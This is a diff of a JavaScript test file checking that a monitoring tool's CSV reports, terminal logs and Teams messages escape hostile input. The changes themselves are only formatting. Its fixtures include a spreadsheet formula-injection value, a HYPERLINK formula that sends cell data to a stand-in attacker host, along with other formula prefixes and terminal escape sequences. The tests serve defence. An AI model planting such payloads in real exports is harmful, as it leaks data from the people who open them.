@@ -32,7 +32,10 @@ describe('outputs escape for their sink', () => {
         { monitor: `probe${ESC}`, tenant: '=HYPERLINK("https://evil.example/?"&A1,"open")', check: 'imap' },
         { monitor: '@SUM(1+1)', tenant: '-2+3', check: 'imap' },
       ];
-      const report = await buildReport({ store, policy: DEFAULT_POLICY, configured }, { from: Date.UTC(2030, 0, 1), to: Date.UTC(2030, 1, 1), now: Date.UTC(2030, 1, 2), label: '2030-01' });
+      const report = await buildReport(
+        { store, policy: DEFAULT_POLICY, configured },
+        { from: Date.UTC(2030, 0, 1), to: Date.UTC(2030, 1, 1), now: Date.UTC(2030, 1, 2), label: '2030-01' },
+      );
       const rows = renderReport(report, 'csv').trimEnd().split('\r\n').slice(1);
       for (const row of rows) for (const cell of row.split(',')) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, row);
       assert.ok(rows.some((row) => row.includes(`"'=HYPERLINK(""https://evil.example/?""&A1`)));
@@ -44,7 +47,7 @@ describe('outputs escape for their sink', () => {
     }
   });
 
-  test('pretty logs: a server\'s escapes in a field or the message are shown as \\x1b', () => {
+  test("pretty logs: a server's escapes in a field or the message are shown as \\x1b", () => {
     const stream = new PassThrough();
     const logger = createLogger({ format: 'pretty', redactor: new Redactor(), stream });
     logger.warn(`check failed${ESC}`, { serverText: ESC, reason: `auth${ESC.replace(/ /g, '')}` });
@@ -53,7 +56,7 @@ describe('outputs escape for their sink', () => {
     assert.match(line, /check failed\\x1b\[2J/);
   });
 
-  test('Teams: a server\'s Markdown link is shown as written, not as a link', () => {
+  test("Teams: a server's Markdown link is shown as written, not as a link", () => {
     const body = buildTeamsBody({
       monitor: 'm',
       tenant: 't',
